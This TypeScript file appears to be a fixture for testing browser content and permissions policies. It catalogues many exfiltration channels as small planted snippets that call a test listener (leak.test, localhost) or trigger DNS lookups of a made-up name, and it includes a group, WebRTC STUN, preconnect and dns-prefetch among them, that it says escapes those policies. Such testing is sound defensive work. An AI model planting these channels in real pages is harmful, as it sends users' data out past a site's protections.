// The ways in which a page can send what it holds to somebody, each as a few lines that are planted in a page. Knows no policy.

/** Where a leak goes. All but names is heard by one listener. */
export interface LeakAddress {
  /** `http://leak.test:1234/open/fetch`: what is asked for tells which leak it was. */
  readonly url: string;
  /** The same listener at `localhost`, for what pages on `localhost` may ask of their own site only: another origin, by its port. */
  readonly near: string;
  /** The same for a WebSocket. */
  readonly ws: string;
  /** `127.0.0.1:1234`: hears UDP. */
  readonly udp: string;
  /** `https://127.0.0.1:1234/`: hears UDP, too, and never answers. */
  readonly quic: string;
  /** An origin of its own, where the connection alone is heard. */
  readonly ahead: string;
  /** A name that nobody has, made of which leak it is: looking it up is the leak. */
  readonly name: string;
}

/** One way out. */
export interface Leak {
  readonly kind: string;
  /** Nothing is sent but the question for a name. */
  readonly isLookUp?: boolean;
  /** Runs in the page, and knows nothing but its argument. */
  readonly plant: (to: LeakAddress) => unknown;
}

/** Requests by script. */
const requests: readonly Leak[] = [
  { kind: "fetch", plant: ({ url }) => void fetch(url, { mode: "no-cors" }).catch(() => undefined) },
  {
    kind: "fetch-keepalive",
    plant: ({ url }) =>
      void fetch(url, { method: "POST", body: "x", keepalive: true, mode: "no-cors" }).catch(() => undefined),
  },
  {
    kind: "xhr",
    plant: ({ url }) => {
      const request = new XMLHttpRequest();
      request.open("GET", url);
      request.send();
    },
  },
  { kind: "beacon", plant: ({ url }) => navigator.sendBeacon(url, "x") },
  { kind: "event-source", plant: ({ url }) => void new EventSource(url) },
  { kind: "web-socket", plant: ({ ws }) => void new WebSocket(ws) },
  {
    kind: "web-socket-stream",
    plant: ({ ws }) => {
      const stream = new (Reflect.get(globalThis, "WebSocketStream"))(ws);
      stream.opened.catch(() => undefined);
      stream.closed.catch(() => undefined);
    },
  },
  {
    kind: "web-transport",
    plant: ({ quic }) => {
      const { ready, closed } = new WebTransport(quic);
      for (const each of [ready, closed]) each.catch(() => undefined);
    },
  },
  { kind: "fetch-later", plant: ({ near }) => Reflect.get(globalThis, "fetchLater")(near, { activateAfter: 0 }) },
  {
    kind: "ping",
    plant: ({ url }) => {
      const link = document.createElement("a");
      link.href = "#pinged";
      link.ping = url;
      document.body.append(link);
      link.click();
    },
  },
];

/** Elements that fetch what they name. */
const elements: readonly Leak[] = [
  {
    kind: "image",
    plant: ({ url }) => {
      new Image().src = url;
    },
  },
  {
    kind: "image-set",
    plant: ({ url }) => {
      const image = document.createElement("img");
      image.srcset = `${url} 1x`;
      document.body.append(image);
    },
  },
  {
    kind: "picture",
    plant: ({ url }) =>
      void document.body.insertAdjacentHTML("beforeend", `<picture><source srcset="${url}"><img></picture>`),
  },
  {
    kind: "svg-image",
    plant: ({ url }) => {
      document.body.insertAdjacentHTML(
        "beforeend",
        `<svg width="9" height="9"><image href="${url}" width="9" height="9"/></svg>`,
      );
    },
  },
  {
    kind: "svg-filter",
    plant: ({ url }) => {
      document.body.insertAdjacentHTML(
        "beforeend",
        `<svg><filter id="planted"><feImage href="${url}"/></filter><rect width="9" height="9" filter="url(#planted)"/></svg>`,
      );
    },
  },
  {
    kind: "input-image",
    plant: ({ url }) => void document.body.insertAdjacentHTML("beforeend", `<input type="image" src="${url}">`),
  },
  {
    kind: "favicon",
    plant: ({ url }) => void document.head.insertAdjacentHTML("beforeend", `<link rel="icon" href="${url}">`),
  },
  {
    kind: "manifest",
    plant: ({ url }) => void document.head.insertAdjacentHTML("beforeend", `<link rel="manifest" href="${url}">`),
  },
  {
    kind: "iframe",
    plant: ({ url }) => void document.body.insertAdjacentHTML("beforeend", `<iframe src="${url}"></iframe>`),
  },
  {
    kind: "iframe-document",
    plant: ({ url }) =>
      void document.body.insertAdjacentHTML("beforeend", `<iframe srcdoc="<img src='${url}'>"></iframe>`),
  },
  {
    kind: "object",
    plant: ({ url }) => void document.body.insertAdjacentHTML("beforeend", `<object data="${url}"></object>`),
  },
  {
    kind: "embed",
    plant: ({ url }) => void document.body.insertAdjacentHTML("beforeend", `<embed src="${url}">`),
  },
  {
    kind: "video",
    plant: ({ url }) =>
      void document.body.insertAdjacentHTML("beforeend", `<video src="${url}" preload="auto"></video>`),
  },
  {
    kind: "video-poster",
    plant: ({ url }) =>
      void document.body.insertAdjacentHTML("beforeend", `<video poster="${url}" width="9" height="9"></video>`),
  },
  {
    kind: "track",
    plant: ({ url }) => {
      const track = `<track default kind="subtitles" src="${url}">`;
      document.body.insertAdjacentHTML("beforeend", `<video crossorigin>${track}</video>`);
    },
  },
  { kind: "audio", plant: ({ url }) => void new Audio(url).play().catch(() => undefined) },
  {
    kind: "script",
    plant: ({ url }) => {
      const script = document.createElement("script");
      script.src = url;
      document.body.append(script);
    },
  },
  {
    kind: "svg-script",
    plant: ({ url }) => {
      const [drawing, script] = ["svg", "script"].map((name) =>
        document.createElementNS("http://www.w3.org/2000/svg", name),
      );
      script?.setAttribute("href", url);
      if (script !== undefined) drawing?.append(script);
      if (drawing !== undefined) document.body.append(drawing);
    },
  },
  // As text: the tests' own tools change an import that they find.
  { kind: "import", plant: ({ url }) => new Function("url", "import(url).catch(() => undefined)")(url) },
];

/** What style sheets fetch. A sheet made by script is not held back itself: only what it names is. */
const styles: readonly Leak[] = [
  {
    kind: "style-link",
    plant: ({ url }) => void document.head.insertAdjacentHTML("beforeend", `<link rel="stylesheet" href="${url}">`),
  },
  {
    kind: "style-import",
    plant: ({ url }) => {
      const style = document.createElement("style");
      style.textContent = `@import url("${url}");`;
      document.head.append(style);
    },
  },
  {
    kind: "style-background",
    plant: ({ url }) => {
      document.body.style.backgroundImage = `url("${url}")`;
    },
  },
  {
    kind: "style-sheet",
    plant: ({ url }) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body { list-style-image: url("${url}"); display: list-item; }`);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    },
  },
  {
    kind: "font",
    plant: ({ url }) => void new FontFace("planted", `url("${url}")`).load().catch(() => undefined),
  },
  {
    kind: "font-rule",
    plant: ({ url }) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`@font-face { font-family: ruled; src: url("${url}"); } h1 { font-family: ruled; }`);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    },
  },
];

/** Hints that make a browser fetch ahead. */
const hints: readonly Leak[] = [
  {
    kind: "prefetch",
    plant: ({ url }) => void document.head.insertAdjacentHTML("beforeend", `<link rel="prefetch" href="${url}">`),
  },
  // Chromium fetches ahead from other sites by https only, and shows none of theirs ahead: so these ask the own site.
  {
    kind: "speculation-prefetch",
    plant: ({ near }) => {
      const script = document.createElement("script");
      script.type = "speculationrules";
      script.textContent = JSON.stringify({ prefetch: [{ urls: [near], eagerness: "immediate" }] });
      document.head.append(script);
    },
  },
  {
    kind: "speculation-prerender",
    plant: ({ near }) => {
      const script = document.createElement("script");
      script.type = "speculationrules";
      script.textContent = JSON.stringify({ prerender: [{ urls: [near], eagerness: "immediate" }] });
      document.head.append(script);
    },
  },
  {
    kind: "dictionary",
    plant: ({ url }) =>
      void document.head.insertAdjacentHTML(
        "beforeend",
        `<link rel="compression-dictionary" crossorigin href="${url}">`,
      ),
  },
  {
    kind: "modulepreload",
    plant: ({ url }) => void document.head.insertAdjacentHTML("beforeend", `<link rel="modulepreload" href="${url}">`),
  },
  {
    kind: "preload-image",
    plant: ({ url }) =>
      void document.head.insertAdjacentHTML("beforeend", `<link rel="preload" as="image" href="${url}">`),
  },
  {
    kind: "preload-style",
    plant: ({ url }) =>
      void document.head.insertAdjacentHTML("beforeend", `<link rel="preload" as="style" href="${url}">`),
  },
  {
    kind: "preload-script",
    plant: ({ url }) =>
      void document.head.insertAdjacentHTML("beforeend", `<link rel="preload" as="script" href="${url}">`),
  },
  {
    kind: "preload-font",
    plant: ({ url }) =>
      void document.head.insertAdjacentHTML("beforeend", `<link rel="preload" as="font" crossorigin href="${url}">`),
  },
  {
    kind: "preload-track",
    plant: ({ url }) =>
      void document.head.insertAdjacentHTML("beforeend", `<link rel="preload" as="track" crossorigin href="${url}">`),
  },
  {
    kind: "preload-fetch",
    plant: ({ url }) =>
      void document.head.insertAdjacentHTML("beforeend", `<link rel="preload" as="fetch" crossorigin href="${url}">`),
  },
];

/** Forms, workers, and what reaches the net besides HTTP. */
const others: readonly Leak[] = [
  {
    kind: "form",
    plant: ({ url }) => {
      document.body.insertAdjacentHTML(
        "beforeend",
        `<iframe name="planted"></iframe><form method="post" action="${url}" target="planted"></form>`,
      );
      document.forms.item(document.forms.length - 1)?.submit();
    },
  },
  {
    kind: "worker",
    plant: ({ url }) => {
      const text = `fetch(${JSON.stringify(url)}, { mode: "no-cors" })`;
      try {
        void new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
      } catch {
        // Refused at once.
      }
    },
  },
  {
    kind: "shared-worker",
    plant: ({ url }) => {
      const text = `fetch(${JSON.stringify(url)}, { mode: "no-cors" })`;
      try {
        void new SharedWorker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
      } catch {
        // Refused at once.
      }
    },
  },
  {
    kind: "worklet",
    plant: ({ url }) => void new AudioContext().audioWorklet.addModule(url).catch(() => undefined),
  },
  {
    kind: "payment-method",
    plant: async ({ near }) => {
      const total = { label: "planted", amount: { currency: "EUR", value: "1" } };
      await new PaymentRequest([{ supportedMethods: near }], { total }).canMakePayment();
    },
  },
  // Whoever claims to be another site makes the browser ask that site whether it agrees.
  {
    kind: "passkey-get",
    isLookUp: true,
    plant: async ({ name }) => {
      const publicKey = { challenge: new Uint8Array(16), rpId: name };
      await navigator.credentials.get({ publicKey, signal: AbortSignal.timeout(5000) });
    },
  },
  {
    kind: "passkey-create",
    isLookUp: true,
    plant: async ({ name }) => {
      const user = { id: new Uint8Array(4), name: "planted", displayName: "planted" };
      const pubKeyCredParams = [{ type: "public-key", alg: -7 } as const];
      const publicKey = { challenge: new Uint8Array(16), rp: { name, id: name }, user, pubKeyCredParams };
      await navigator.credentials.create({ publicKey, signal: AbortSignal.timeout(5000) });
    },
  },
  // The last of the credentials: it stays under way.
  {
    kind: "federated-sign-in",
    plant: ({ near }) => {
      const asked = {
        mediation: "optional",
        identity: { providers: [{ configURL: near, clientId: "planted" }] },
      } as const;
      navigator.credentials.get(asked).catch(() => undefined);
    },
  },
];

/** What no policy reaches, or not in every browser. */
const beyondPolicies: readonly Leak[] = [
  {
    kind: "web-rtc",
    plant: async ({ udp }) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${udp}` }] });
      peer.createDataChannel("planted");
      await peer.setLocalDescription();
    },
  },
  {
    kind: "preconnect",
    plant: ({ ahead }) => void document.head.insertAdjacentHTML("beforeend", `<link rel="preconnect" href="${ahead}">`),
  },
  {
    kind: "dns-prefetch",
    isLookUp: true,
    plant: ({ name }) =>
      void document.head.insertAdjacentHTML("beforeend", `<link rel="dns-prefetch" href="http://${name}/">`),
  },
  { kind: "window-open", plant: ({ url }) => void window.open(url) },
  // The last one: the page is gone afterwards.
  {
    kind: "navigation",
    plant: ({ url }) => {
      location.href = url;
    },
  },
];

/** A way that leads nowhere. */
export interface ClosedWay {
  readonly kind: string;
  /** Tries it, and answers the name of the error. */
  readonly plant: (to: LeakAddress) => string | Promise<string>;
}

/** What browsers refuse to any page, with headers or without: a script that is to work in the background is of the own origin. */
export const closedWays: readonly ClosedWay[] = [
  {
    kind: "service-worker",
    plant: ({ url }) =>
      navigator.serviceWorker.register(url).then(
        () => "taken",
        ({ name }: Error) => name,
      ),
  },
  {
    kind: "worker-elsewhere",
    plant: ({ url }) => {
      try {
        new Worker(url, { type: "module" });
        return "taken";
      } catch (error) {
        return error instanceof Error ? error.name : "unknown";
      }
    },
  },
  {
    kind: "shared-worker-elsewhere",
    plant: ({ url }) => {
      try {
        new SharedWorker(url);
        return "taken";
      } catch (error) {
        return error instanceof Error ? error.name : "unknown";
      }
    },
  },
];

/** Every way out that the policies are there to stop: the content policy, and the one of what a page may use. */
export const policedLeaks: readonly Leak[] = [...requests, ...elements, ...styles, ...hints, ...others];

/** Every way out that was thought of, in the order in which they are to be planted. */
export const leaks: readonly Leak[] = [...policedLeaks, ...beyondPolicies];
